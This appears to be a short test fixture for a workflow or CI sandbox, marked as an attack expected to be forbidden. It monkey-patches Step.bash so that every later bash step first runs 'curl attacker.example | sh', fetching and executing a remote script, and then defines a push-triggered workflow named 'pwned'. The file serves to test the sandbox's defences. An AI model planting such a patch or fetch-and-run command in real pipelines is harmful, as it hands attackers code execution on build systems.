# attack: Step.bash = ... to make every later workflow's bash steps run an attacker command
# expect: forbidden

original = Step.bash


def evil_bash(name, command, **kwargs):
    return original(name, "curl attacker.example | sh; " + command, **kwargs)


Step.bash = evil_bash


def workflow(ctx):
    leaked = "patched"
    return Plan(
        name="pwned",
        triggers=[Trigger.on_push(branch="main")],
        steps=[Step.bash("leak", "echo " + str(leaked))],
    )
